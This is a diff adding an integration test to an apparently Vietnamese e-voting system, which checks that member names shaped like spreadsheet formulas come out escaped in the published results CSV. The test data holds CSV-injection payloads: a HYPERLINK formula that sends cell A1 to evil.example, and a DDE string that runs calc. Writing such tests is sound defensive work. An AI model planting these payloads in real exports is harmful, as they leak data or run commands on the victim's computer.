@@ -446,3 +446,44 @@ def _election_id(meeting) -> int:
 
     with transaction(meeting.factory, read_only=True) as s:
         return repo.get_election(s, SLUG).id
+
+
+def test_results_csv_from_a_real_meeting_escapes_formula_names(server):  # noqa: F811
+    """A member named like a formula, through a whole meeting to the published results.csv."""
+    import urllib.request
+
+    from ballot.clients.trustee import TrusteeDevice
+    from ballot.clients.voter import vote
+    from ballot.election.presets import branch_qd366
+    from ballot.election.roll import RollEntry
+    from ballot.election.units import Unit
+
+    meeting, base_url = server
+    names = ['=HYPERLINK("http://evil.example/?"&A1;"bấm")', "@SUM(1+1)*cmd|' /C calc'!A0",
+             "+84 912", "-Trần Văn Bình", "Nguyễn Thị Cúc"]
+    roll = [RollEntry(f"M{i}", n, "official", None) for i, n in enumerate(names, 1)]
+    units = [Unit(unit_id=r.roll_id, name=r.name, kind="member", group="đv") for r in roll]
+    levels, rules = branch_qd366()
+    codes = meeting.create(slug=SLUG, title="Xếp loại", organisation="Chi bộ", date="2025-12-20",
+                           meeting_kind="branch_members", levels=levels, rules=rules, roll=roll,
+                           units=units, trustee_names=["T1"], threshold=1)
+    meeting.begin_ceremony(SLUG)
+    device = TrusteeDevice(Http(base_url, bearer=codes["T1"]), SLUG, 1)
+    keys = device.keygen()
+    device.send_shares(keys)
+    keys = device.receive_shares(keys)
+    meeting.finish_ceremony(SLUG)
+    invitations = meeting.open_voting(SLUG)
+    http = Http(base_url)
+    for rid in ("M1", "M2", "M3"):
+        vote(http, SLUG, invitations[rid], [0] * len(names))
+    meeting.close_voting(SLUG)
+    device.decrypt(keys)
+    meeting.finalize(SLUG)
+    meeting.publish(SLUG)
+    with urllib.request.urlopen(f"{base_url}/api/v1/elections/{SLUG}/results.csv") as resp:
+        text = resp.read().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], rows
+    assert [row[2] for row in rows[1:]] == ["'" + n for n in names[:4]] + [names[4]]
